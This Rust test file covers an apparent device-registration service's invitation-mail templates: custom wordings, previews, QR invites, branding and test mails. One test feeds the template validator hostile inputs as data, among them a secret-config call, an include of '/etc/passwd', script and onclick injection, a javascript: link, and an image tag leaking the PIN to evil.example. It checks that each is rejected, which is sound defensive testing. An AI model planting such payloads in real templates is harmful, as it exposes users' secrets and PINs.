//! Own wordings of mails: begun from ours, tried, kept, sent and taken back.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "the functions beside the tests fail the tests, as they should"
)]

use beckon_tests::{Answer, Beckon};
use serde_json::{Value, json};

const GERMAN: &str = "/v1/templates/invitation/de";

async fn put(beckon: &Beckon, path: &str, if_match: &str, wording: &Value) -> Answer {
    let call = beckon.call("PUT", path).header("If-Match", if_match);
    call.json(wording).answer().await
}

/// Our German invitation, in words of one's own around what people need.
async fn own_wording(beckon: &Beckon) -> Value {
    let template = beckon.get(GERMAN).await.with_status(200);
    assert_eq!(template["own"], false);
    let mut wording = template["wording"].clone();
    wording["subject"] = json!("Moin {{ name }}, Ihr neues Gerät wartet");
    for part in ["html", "text"] {
        let ours = wording[part].as_str().unwrap();
        let own = ours.replace("{{ greeting }}", "Moin aus der IT-Abteilung!");
        assert_ne!(own, ours);
        wording[part] = json!(own);
    }
    wording
}

#[tokio::test]
async fn an_own_invitation_goes_out_with_a_working_pin_until_it_is_taken_back() {
    let beckon = Beckon::start().await;
    let ada = json!({ "email": "ada@example.com", "displayName": "Ada", "locale": "de-AT", "invite": false });
    let ada = beckon.add_user(&ada).await;
    let wording = own_wording(&beckon).await;

    let kept = put(&beckon, GERMAN, "\"0\"", &wording).await;
    let preview = beckon.preview(&[&ada], None).await;
    beckon.send(&[&ada], None).await;

    assert_eq!(kept.header("etag"), "\"1\"");
    let kept = kept.with_status(200);
    assert_eq!((&kept["own"], &kept["wording"]), (&json!(true), &wording));
    let mail = beckon.newest_mail(&ada.email).await;
    assert_eq!(mail.subject, "Moin Ada, Ihr neues Gerät wartet");
    assert_eq!(preview["mail"]["subject"], mail.subject.as_str());
    assert!(
        mail.text.contains("Moin aus der IT-Abteilung!"),
        "{}",
        mail.text
    );
    assert!(mail.html.contains("Moin aus der IT-Abteilung!"));
    assert!(mail.html.contains(&mail.pin().unwrap()));
    let registration = beckon.redeem(&ada).await;
    assert_eq!(beckon.registration(&registration).await["state"], "open");

    let stale = beckon.call("DELETE", GERMAN).header("If-Match", "\"0\"");
    assert_eq!(
        stale.answer().await.problem(412)["type"],
        "urn:beckon:problem:stale-template"
    );
    let back = beckon
        .call("DELETE", GERMAN)
        .answer()
        .await
        .with_status(200);
    assert_eq!(
        (&back["own"], &back["version"]),
        (&json!(false), &json!("2"))
    );
    beckon.send(&[&ada], None).await;
    let ours = beckon.newest_mail(&ada.email).await;
    assert_eq!(
        ours.subject,
        "Noch einmal: Registrieren Sie Ihr Gerät für die Arbeit"
    );
    assert!(!ours.text.contains("Moin"));
}

#[tokio::test]
async fn a_qr_invitation_in_own_words_redeems_by_its_link() {
    let beckon = Beckon::start().await;
    beckon.method("qrCode").await;
    let wording = json!({
        "subject": "Scan me",
        "html": "<p>{{ name }}</p>{{ secretBlock }}<p><a href=\"{{ link }}\">or click</a> until {{ expires }}</p>",
        "text": "{{ link }}\n\nuntil {{ expires }}",
    });
    let refused = put(&beckon, "/v1/templates/invitation/en", "*", &wording).await;
    assert_eq!(
        refused.problem(422)["errors"][0]["detail"],
        "does not say the PIN, which the registration method asks for (method pin); use {{ pin }} or {{ secretBlock }}"
    );
    let wording = json!({
        "subject": "Scan me",
        "html": wording["html"],
        "text": "{{ secretBlock }}\n\n{{ link }}\n\nuntil {{ expires }}",
    });
    let _ = put(&beckon, "/v1/templates/invitation/en", "*", &wording)
        .await
        .with_status(200);

    let ada = beckon.invite("ada@example.com").await;

    let mail = beckon.newest_mail(&ada.email).await;
    assert_eq!(mail.subject, "Scan me");
    assert_eq!(mail.attachments.len(), 1);
    let opened = beckon.show_token(&mail.token().unwrap()).await;
    let _ = opened.with_status(200);
}

#[tokio::test]
async fn a_wording_that_may_not_be_kept_is_refused_with_the_reason_and_ours_holds_on() {
    let beckon = Beckon::start().await;
    let ours = beckon.get(GERMAN).await.with_status(200);
    let with = |html: &str| {
        let mut wording = ours["wording"].clone();
        let html = format!("{}{html}", wording["html"].as_str().unwrap());
        wording["html"] = json!(html);
        wording
    };
    let nested = format!(
        "{}{}",
        "{% for step in steps %}".repeat(20),
        "{% endfor %}".repeat(20)
    );

    for (html, code, part) in [
        ("{{ config('SECRET') }}", "call", "config(…) is a call"),
        ("{% include '/etc/passwd' %}", "notAllowed", "{% include %}"),
        (&nested, "neverEnds", "does not come to an end"),
        ("<script>alert(1)</script>", "notAllowed", "<script>"),
        ("<p onclick='x()'>a</p>", "notAllowed", "onclick"),
        (
            "<a href='javascript:x()'>a</a>",
            "notAllowed",
            "href of <a>",
        ),
        (
            "<img src='https://evil.example/{{ pin }}' alt=''>",
            "notAllowed",
            "src of <img>",
        ),
    ] {
        let problem = put(&beckon, GERMAN, "*", &with(html)).await.problem(422);

        assert_eq!(problem["errors"][0]["field"], "html", "{html}");
        assert_eq!(problem["errors"][0]["code"], code, "{html}");
        let detail = problem["errors"][0]["detail"].as_str().unwrap();
        assert!(detail.contains(part), "{html}: {detail}");
    }
    assert_eq!(beckon.get(GERMAN).await.with_status(200), ours);
    let large = json!({ "subject": "a", "html": "x".repeat(70_000), "text": "x" });
    let problem = put(&beckon, GERMAN, "*", &large).await.problem(422);
    assert_eq!(problem["errors"][0]["code"], "tooLarge");
    let bare = beckon.call("PUT", GERMAN).json(&with("")).answer().await;
    assert_eq!(
        bare.problem(428)["type"],
        "urn:beckon:problem:if-match-required"
    );
    for unknown in ["/v1/templates/letter/de", "/v1/templates/invitation/tlh"] {
        assert_eq!(beckon.get(unknown).await.problem(404)["status"], 404);
    }
}

#[tokio::test]
async fn mails_carry_the_logo_and_the_colour_of_the_settings_beside_the_qr_code() {
    let beckon = Beckon::start().await;
    // A white square of 16 points.
    let logo = "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQAQAAAAA3iMLMAAAADklEQVR4nGP4/5+BFAQA/U4f4cOgO+EAAAAASUVORK5CYII=";
    let branding = |content: &str| {
        json!({
            "registration": { "method": "qrCode" },
            "organisation": { "name": "Nordlicht Werke" },
            "branding": {
                "accentColour": "#FFD400",
                "logo": { "contentType": "image/png", "contentBase64": content, "alt": null },
            },
        })
    };

    let saved = beckon.settings(&branding(logo)).await;
    let ada = beckon.invite("ada@example.com").await;
    let refused = beckon
        .call("PUT", "/v1/settings")
        .header("If-Match", "*")
        .json(&branding("PHN2Zz48L3N2Zz4="))
        .answer()
        .await;

    assert_eq!(saved["branding"]["accentColour"], "#ffd400");
    assert_eq!(saved["branding"]["logo"]["contentBase64"], logo);
    let mail = beckon.newest_mail(&ada.email).await;
    let pictures: Vec<&Value> = mail
        .attachments
        .iter()
        .map(|part| &part["contentId"])
        .collect();
    assert_eq!(pictures, ["registration-code", "logo"]);
    assert_eq!(mail.attachments[1]["contentBase64"], logo);
    assert!(mail.html.contains("alt=\"Nordlicht Werke\""));
    assert!(mail.html.contains("#ffd400"));
    let _ = beckon
        .show_token(&mail.token().unwrap())
        .await
        .with_status(200);
    let problem = refused.problem(422);
    assert_eq!(problem["errors"][0]["field"], "branding.logo.contentBase64");
    assert_eq!(problem["errors"][0]["code"], "notThatPicture");
}

#[tokio::test]
async fn a_mail_is_shown_under_settings_that_nobody_saved() {
    let beckon = Beckon::start().await;
    let path = &format!("{GERMAN}/preview");
    let settings = json!({ "organisation": { "name": "Nordlicht Werke" }, "branding": { "accentColour": "#ffd400" } });

    let shown = beckon
        .post(path, &json!({ "settings": settings }))
        .await
        .with_status(200);
    let wrong = json!({ "settings": { "branding": { "accentColour": "yellow" } } });
    let problem = beckon.post(path, &wrong).await.problem(422);
    let saved = beckon.post(path, &json!({})).await.with_status(200);

    let html = |mail: &serde_json::Value| mail["html"].as_str().unwrap().to_owned();
    assert!(html(&shown).contains("Nordlicht Werke"));
    assert!(html(&shown).contains("#ffd400"));
    assert!(!html(&saved).contains("Nordlicht Werke"));
    assert_eq!(
        problem["errors"][0]["field"],
        "settings.branding.accentColour"
    );
}

#[tokio::test]
async fn a_draft_is_shown_and_mailed_for_a_try_before_it_is_kept() {
    let beckon = Beckon::start().await;
    let wording = own_wording(&beckon).await;

    let shown = beckon
        .post(
            &format!("{GERMAN}/preview"),
            &json!({ "draft": wording, "method": "passwordAndPin" }),
        )
        .await
        .with_status(200);
    let ours = beckon
        .post(&format!("{GERMAN}/preview"), &json!({}))
        .await
        .with_status(200);
    let order = json!({ "to": "it@example.com", "draft": wording });
    let test = async || {
        let call = beckon.call("POST", &format!("{GERMAN}/test")).key("k");
        call.json(&order).answer().await.with_status(202)
    };
    let (first, again) = (test().await, test().await);
    let mail = beckon.mail_number(1, "it@example.com").await;
    beckon.quiet().await;

    assert_eq!(
        shown["subject"],
        "Moin Alex Example, Ihr neues Gerät wartet"
    );
    assert!(shown["text"].as_str().unwrap().contains("PIN: •••• ••••"));
    assert!(
        shown["html"]
            .as_str()
            .unwrap()
            .contains("Moin aus der IT-Abteilung!")
    );
    assert_eq!(ours["subject"], "Registrieren Sie Ihr Gerät für die Arbeit");
    assert_eq!(first, again);
    assert_eq!(beckon.mailbox().await.len(), 1);
    assert_eq!(
        mail.subject,
        "[Test] Moin Alex Example, Ihr neues Gerät wartet"
    );
    assert!(mail.text.contains("PIN: •••• ••••"));
    let outside = json!({ "to": "it@elsewhere.example" });
    let refused = beckon
        .post(&format!("{GERMAN}/test"), &outside)
        .await
        .problem(422);
    assert_eq!(refused["errors"][0]["code"], "domainNotAllowed");
    let list = beckon.get("/v1/templates").await.with_status(200);
    assert!(
        list["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|item| item["own"] == false)
    );
}
